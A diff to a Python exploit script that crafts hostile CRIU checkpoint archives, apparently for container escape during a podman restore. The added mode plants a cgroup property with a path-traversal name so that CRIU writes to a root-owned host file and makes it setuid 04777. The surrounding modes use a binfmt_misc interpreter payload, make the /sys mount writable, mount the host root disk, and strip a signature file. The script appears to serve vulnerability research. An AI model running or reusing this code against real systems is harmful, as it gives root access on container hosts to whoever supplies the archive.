@@ -10,6 +10,8 @@ MODE binfmt:    mountpoints: a binfmt_misc mount at /mnt (fstype 4, a new mnt_id
                 <podman's userdata of the container>/attack30d-interp, a script shipped at the archive's root.
                 (CRIU did not register it on this node: the entry never appeared; the mount is what matters.)
 MODE binfmtmnt: the binfmt_misc mount alone (no extra image, no extra archive entry).
+MODE cgprop:    cgroup.img: a new child cgroup under the container's hugetlb cgroup with a property named
+                ../../(x40)var/tmp/attack30d/victim, value "attack30d-written-by-criu", perms mode 04777 uid 0.
 MODE sysrw:     mountpoints: the /sys mount loses MS_RDONLY (mount and superblock flags).
 MODE devtmpfs, debugfs, tracefs, securityfs: mountpoints: a mount of that type at /mnt.
 MODE autoext4:  mountpoints: fstype AUTO, fsname ext4, source /dev/vda (the host's root disk) at /mnt.
@@ -19,6 +21,7 @@ import io, json, os, struct, subprocess, sys, tarfile, tempfile
 import zstandard
 
 src, out, mode = sys.argv[1:4]
+VICTIM = "/var/tmp/attack30d/victim"  # a host file of root's: CRIU writes its start and chmods it
 INTERP = "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: $(id) file=$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30d/binfmt-ran\n"
 
 
@@ -86,6 +89,18 @@ def mounts(doc):
     return doc
 
 
+def cgroups(doc):
+    """A new child cgroup `attack30d` under the container's hugetlb cgroup (CRIU creates it, soft mode, and then
+    writes its properties) whose one property's name climbs out of CRIU's cgroup yard to a host file."""
+    for controller in doc["entries"][0]["controllers"]:
+        if controller["cnames"] == ["hugetlb"]:
+            controller["dirs"][0].setdefault("children", []).append({
+                "dir_name": "attack30d", "dir_perms": {"mode": 0o40755, "uid": 0, "gid": 0},
+                "properties": [{"name": "../" * 40 + VICTIM.lstrip("/"), "value": "attack30d-written-by-criu",
+                                "perms": {"mode": 0o104777, "uid": 0, "gid": 0}}]})
+    return doc
+
+
 with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
     members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
 cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
@@ -95,8 +110,10 @@ with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as 
     for m, data in members:
         if m.name == "checkpoint/gpuckpt-dump.sig":
             continue
-        if m.name.startswith("checkpoint/mountpoints-") and mode != "nosig":
+        if m.name.startswith("checkpoint/mountpoints-") and mode not in ("nosig", "cgprop"):
             data = crit(data, mounts)
+        if m.name == "checkpoint/cgroup.img" and mode == "cgprop":
+            data = crit(data, cgroups)
         if data is not None:
             m.size = len(data); tout.addfile(m, io.BytesIO(data))
         else:
